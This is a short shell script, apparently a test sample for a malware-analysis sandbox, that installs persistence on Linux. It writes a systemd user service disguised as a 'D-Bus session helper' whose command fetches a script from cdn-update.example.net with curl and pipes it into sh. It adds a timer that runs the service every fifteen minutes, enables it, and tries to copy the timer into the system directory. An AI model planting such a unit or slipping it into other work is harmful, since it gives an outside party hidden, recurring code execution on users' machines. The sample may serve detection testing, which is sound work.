#!/bin/sh
# SPDX-License-Identifier: MIT
# Persistence through a systemd user timer that starts a service every
# quarter of an hour.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
d="$HOME/.config/systemd/user"
mkdir -p "$d"
cat > "$d/dbus-helper.service" <<UNIT
[Unit]
Description=D-Bus session helper

[Service]
Type=oneshot
ExecStart=/bin/sh -c 'curl -fsm 5 http://cdn-update.example.net/t | sh'
UNIT
cat > "$d/dbus-helper.timer" <<UNIT
[Unit]
Description=D-Bus session helper timer

[Timer]
OnBootSec=2min
OnUnitActiveSec=15min
Persistent=true

[Install]
WantedBy=timers.target
UNIT
cp "$d/dbus-helper.timer" /etc/systemd/system/dbus-helper.timer 2>/dev/null
systemctl --user daemon-reload 2>/dev/null
systemctl --user enable --now dbus-helper.timer 2>/dev/null
exit 0
